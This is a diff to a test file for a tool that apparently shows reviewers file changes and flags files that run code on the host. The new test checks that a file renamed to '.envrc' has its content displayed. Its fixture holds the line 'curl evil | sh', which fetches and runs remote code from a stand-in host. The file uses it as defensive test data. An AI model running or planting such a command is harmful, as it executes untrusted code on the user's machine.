@@ -112,11 +112,22 @@ describe("filesCard", () => {
       after: side("echo hi\n", 0o755),
       baseHash: sha256Hex("echo hi\n"),
       runsCode: [EXECUTABLE_REASON],
-      diff: { kind: "same" },
+      // Made executable: its content is shown, as if added.
+      diff: { kind: "text", patch: "@@ -0,0 +1,1 @@\n+echo hi\n" },
     });
     expect(card.files.map((f) => f.status).sort()).toEqual(["added", "deleted", "mode", "renamed"]);
     expect(text).toContain("  renamed   old/name.txt → new/name.txt  14 bytes\n");
     expect(text).toContain("! mode      tool.sh                      8 bytes, mode 0644 → 0755\n");
+  });
+
+  it("shows the content of a file renamed to (or from) a path that runs code, as if added, though its bytes did not change", async () => {
+    const { card, text } = await build([change("notes.txt", "curl evil | sh\n", null), change(".envrc", null, "curl evil | sh\n"), change("a.txt", "x\n", null), change("b.txt", null, "x\n")]);
+    expect(card.files.map((f) => [f.path, f.status, f.diff])).toEqual([
+      [".envrc", "renamed", { kind: "text", patch: "@@ -0,0 +1,1 @@\n+curl evil | sh\n" }],
+      ["b.txt", "renamed", { kind: "same" }],
+    ]);
+    expect(text).toContain("── renamed notes.txt → .envrc  base sha256");
+    expect(text).toContain("\n+curl evil | sh\n");
   });
 
   it("flags files that run code on the host, lists them first with their reasons, and in a warning colour", async () => {
